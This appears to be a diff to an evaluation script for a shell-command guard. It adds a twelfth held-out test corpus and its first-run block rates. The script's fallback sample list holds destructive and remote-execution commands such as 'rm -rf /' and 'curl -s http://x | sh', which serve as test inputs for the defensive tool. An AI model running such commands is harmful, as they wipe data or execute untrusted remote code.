@@ -1,5 +1,5 @@
 """Command-guard quality and latency: attacks blocked and benign commands blocked on each
-corpus (the shared one's core tier, the guard's own dev set, its held-out third and ten
+corpus (the shared one's core tier, the guard's own dev set, its held-out third and eleven
 more held-out sets, each written after the previous one was judged), then the
 per-decision latency of parse + judgement over all of them.
 
@@ -33,6 +33,7 @@ FIRST_RUN = {
     "own held-out 9": "first run: 192/240 = 80.0%, benign 4/210 = 1.9%; 195/236, 1/214 under policy",
     "own held-out 10": "first run: 234/246 = 95.1%, benign 3/254 = 1.2%; 237/245, 0/255 under policy",
     "own held-out 11": "first run: 142/147 = 96.6%, benign 1/153 = 0.7%; same under policy",
+    "own held-out 12": "first run: 154/187 = 82.4%, benign 2/170 = 1.2%",
     "own held-out 13": "first run: 106/151 = 70.2%, benign 1/155 = 0.6%",
 }
 CORPORA = {
@@ -49,6 +50,7 @@ CORPORA = {
     "own held-out 9": OWN / "held_out_9.jsonl",
     "own held-out 10": OWN / "held_out_10.jsonl",
     "own held-out 11": OWN / "held_out_11.jsonl",
+    "own held-out 12": OWN / "held_out_12.jsonl",
     "own held-out 13": OWN / "held_out_13.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
